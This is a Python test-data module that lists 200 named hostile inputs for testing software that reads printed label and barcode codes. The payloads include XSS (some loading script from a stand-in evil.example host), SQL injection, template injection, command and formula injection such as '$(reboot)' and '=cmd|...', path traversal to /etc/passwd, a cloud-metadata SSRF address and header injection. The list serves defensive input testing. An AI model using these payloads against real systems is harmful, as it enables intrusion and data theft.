"""Exactly 200 hostile texts, named: what a printed code may hold that was made to do harm."""

from typing import Final

GTIN: Final = "09506000134352"
# Of the form of a label code, and on no label.
CODE: Final = "0000000"

_SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><style><img src onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "<a href=javascript:alert(1) hx-get=/sign-out hx-trigger=load>x</a>",
    "<div hx-on:load=alert(1) hx-post=/sign-out hx-trigger=load>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u02bascript\u02ba\uff1cscript\uff1ealert(1)",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://stock.test/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "https://evil.example/phish",
    f"https://evil.example/S/{CODE}",
    f"https://user:secret@stock.test/S/{CODE}",
    f"javascript:alert(1)/S/{CODE}",
    f"https://stock.test/S/{CODE}?next=//evil.example",
    f"https://stock.test/S/{CODE}/../../sign-out",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1",
    "http://host:99999999/S/x",
    "gopher://127.0.0.1:25/_x",
    "intent://scan/#Intent;scheme=x;end",
]
_DATABASE = [
    "'",
    '"',
    "' OR '1'='1",
    "1 OR 1=1",
    "'; DROP TABLE asset; --",
    "1); DELETE FROM person; --",
    "' UNION SELECT password_hash FROM person --",
    "admin'--",
    "%' AND 1=0 UNION SELECT 1 --",
    "\\'; SELECT 1; --",
    "$$; SELECT pg_sleep(10); $$",
    "'||pg_sleep(10)||'",
    "%",
    "_______",
    "\\",
    "%%%\\%",
    ":code",
    "%(code)s",
    "?1",
    "{'$gt': ''}",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{config}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9999999) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(name)s %s %d %n",
    "$(reboot)",
    "`reboot`",
    "; cat /etc/passwd",
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
]
_GS1 = [
    f"(01){GTIN[:-1]}3(10)L",
    f"01{GTIN[:-1]}3",
    f"(01){GTIN}(17)209999",
    f"(01){GTIN}(17)000000",
    f"(01){GTIN}(10)<script>alert(1)</script>",
    f"(01){GTIN}(21)' OR 1=1",
    f"(01){GTIN}(30)99999999999999999999",
    "(01)",
    "(9999)1",
    "()()()",
    "(" * 200,
    "]C1",
    "]C1" * 100,
    "]d2\x1d\x1d\x1d",
    f"]Q301{GTIN}10" + "\x1d10" * 60,
    f"01{GTIN}3105",
    f"(01){GTIN}(3109)999999",
    f"(01){GTIN}(8008)99999999",
    f"https://evil.example/01/{GTIN}/10/<script>",
    f"https://evil.example/01/{GTIN}?17=999999",
]
_DISTRIBUTOR = [
    "[)>",
    "[)>\x1e06",
    "[)>\x1e06\x1d\x1e\x04",
    "[)>\x1e06\x1d1P\x1dP\x1dQ\x1e\x04",
    "[)>\x1e06\x1d1P<script>alert(1)</script>\x1dQ1\x1e\x04",
    "[)>\x1e06\x1d1P' OR 1=1 --\x1dQ-1\x1e\x04",
    "[)>\x1e06\x1d1PX\x1dQ999999999999\x1d14D99999999\x1e\x04",
    "[)>\x1e06\x1d1PX\x1dQNaN\x1d1T\u202eevil\x1e\x04",
    "[)>\x1e06" + "\x1dS1" * 150,
    "[)>{RS}06{GS}1P{{7*7}}{GS}Q1{RS}{EOT}",
    "[)>\x1e05\x1d01" + GTIN + "17209999\x1e\x04",
    "[)>\x1e12\x1dUNB+UNOA\x1e\x04" * 5,
]
_PATHS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "....//....//etc/passwd",
    "C:\\boot.ini",
    ".",
    "..",
]
_HEADERS = [
    "x\r\nX-Injected: yes",
    "x\r\n\r\n<html>evil</html>",
    "x%0d%0aX-Injected:%20yes",
    "x\nSet-Cookie: evil=1",
    "x\u560a\u560dX-Injected: yes",
    "x\x85X-Injected: yes",
]
_PERCENT = [
    "%00",
    "%ff%fe",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%" + "25" * 200 + "3Cscript%3E",
    "%u003cscript%u003e",
    "%C0%BCscript%C0%BE",
    f"https%253A%252F%252Fx%252FS%252F{CODE}%250d%250a",
    "%zz%1",
]
_LONG = [
    "A" * 5000,
    "1" * 5000,
    "<" * 5000,
    "\U0001f4a3" * 5000,
    "0" * 513,
    ("\N{GREEK SMALL LETTER IOTA WITH DIALYTIKA AND TONOS}" * 512),
]
_INVISIBLE = [
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u200babc",
    "a\u200db\u200dc",
    "\u200f\u200e",
    "\ufeffabc",
    "\u2028alert(1)\u2029",
    "\u00a0",
    "\u3000\u2003",
    "\u0301\u0301\u0301",
    "Z" + "\u0335" * 200,
]
_HALF = ["\ud800", "\udfff", "a\ud83d", "\udca3\ud83d"]
_HOMOGLYPHS = [
    "\N{CYRILLIC CAPITAL LETTER O}" * 7,
    "\N{GREEK CAPITAL LETTER OMICRON}" * 7,
    "\N{FULLWIDTH DIGIT ZERO}" * 7,
    "\N{ARABIC-INDIC DIGIT ZERO}" * 7,
    "\N{MATHEMATICAL BOLD DIGIT ZERO}" * 7,
    "\N{SUPERSCRIPT ZERO}" * 7,
    "\N{LATIN SMALL LETTER LONG S}" * 7,
    "\N{KELVIN SIGN}" * 7,
]
_EMOJI = [
    "\U0001f4a9",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
]
# Tab and the ends of lines are in the families above.
_CONTROL = [f"A{chr(number)}B" for number in [*range(9), *range(14, 24)]]

FAMILIES: Final = {
    "script": _SCRIPTS,
    "address": _ADDRESSES,
    "database": _DATABASE,
    "template": _TEMPLATES,
    "gs1": _GS1,
    "distributor": _DISTRIBUTOR,
    "path": _PATHS,
    "header": _HEADERS,
    "percent": _PERCENT,
    "long": _LONG,
    "invisible": _INVISIBLE,
    "half": _HALF,
    "homoglyph": _HOMOGLYPHS,
    "emoji": _EMOJI,
    "control": _CONTROL,
}
PAYLOADS: Final = {
    f"{family}-{number}": text
    for family, texts in FAMILIES.items()
    for number, text in enumerate(texts, start=1)
}
# Databases differ in their syntax and in the numbers, characters and lengths they take. What the
# other families attack, pages and addresses, is the same on each; so a second database is sent all
# of these families and every fifth text of the rest (of the control characters NUL, for one).
AT_THE_DATABASE: Final = {"database", "gs1", "half", "header", "long", "path"}
PAYLOADS_OF_A_SECOND_DATABASE: Final = {
    name: text
    for name, text in PAYLOADS.items()
    for family, number in [name.split("-")]
    if family in AT_THE_DATABASE or int(number) % 5 == 1
}
